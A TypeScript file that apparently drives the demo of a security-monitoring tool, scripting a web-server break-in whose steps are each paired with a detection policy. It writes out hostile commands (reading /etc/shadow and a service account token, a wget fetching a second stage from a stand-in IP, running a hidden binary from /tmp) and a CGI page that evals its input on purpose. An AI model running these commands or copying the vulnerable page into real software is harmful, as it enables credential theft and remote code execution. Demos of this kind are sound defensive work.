/** One act of the story, and the policy of cli/demo/policies that has something to say about it. */
export interface StoryStep {
  /** What happens, for the person who watches. */
  readonly title: string;
  /** Shell words that the attacker's request makes the page run; `undefined` for the shell's own start. */
  readonly command: string | undefined;
  readonly policy: string;
}

/** Name of the container, which the sample policies select by. */
export const demoContainerName = 'palisade-demo';

/** A break-in through a web server, from the first shell to the second stage. Each step ends in exactly one alert. */
export const story: readonly StoryStep[] = [
  {
    title: 'a request makes the web server start a shell',
    command: undefined,
    policy: 'no-shell-from-web-server',
  },
  { title: 'the shell looks around', command: '/bin/ls /', policy: 'block-ls-from-dash' },
  {
    title: 'it asks the package manager what is installed',
    command: '/usr/bin/dpkg --get-selections',
    policy: 'audit-package-managers',
  },
  { title: 'it reads the password hashes', command: '/bin/cat /etc/shadow', policy: 'protect-credentials' },
  {
    title: 'it reads the service account token',
    command: '/bin/cat /run/secrets/kubernetes.io/serviceaccount/token',
    policy: 'protect-credentials',
  },
  {
    title: 'it connects to a server outside for the next stage (this container has no network, so nothing comes)',
    command: '/usr/bin/wget -q -O /tmp/stage2 http://198.51.100.7/stage2',
    policy: 'audit-download-tools',
  },
  {
    title: 'it runs a program that it dropped in /tmp, and removes it',
    command: 'cp /bin/cat /tmp/stage2; mv /tmp/stage2 /tmp/.kworker; /tmp/.kworker /etc/hostname; rm /tmp/.kworker',
    policy: 'no-execution-from-tmp',
  },
];

/** The HTTP request that plays the story: its body is what the vulnerable page runs. */
export function storyRequest(): string {
  const body = story.flatMap((step) => step.command ?? []).join('\n');
  return `POST /cgi-bin/status HTTP/1.0\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
}

/**
 * What the container runs: the web server in the background, and then one visitor, whose request comes on standard input. The
 * visitor is inside because this container has no network to come from.
 */
export const entryScript = `#!/bin/dash
/usr/sbin/httpd -p 127.0.0.1:8080 -h /srv/www
exec /usr/bin/nc 127.0.0.1 8080
`;

/** The page that trusts its input. */
export const vulnerablePage = `#!/bin/dash
printf 'Content-Type: text/plain\\r\\n\\r\\n'
eval "$(/bin/cat)"
`;
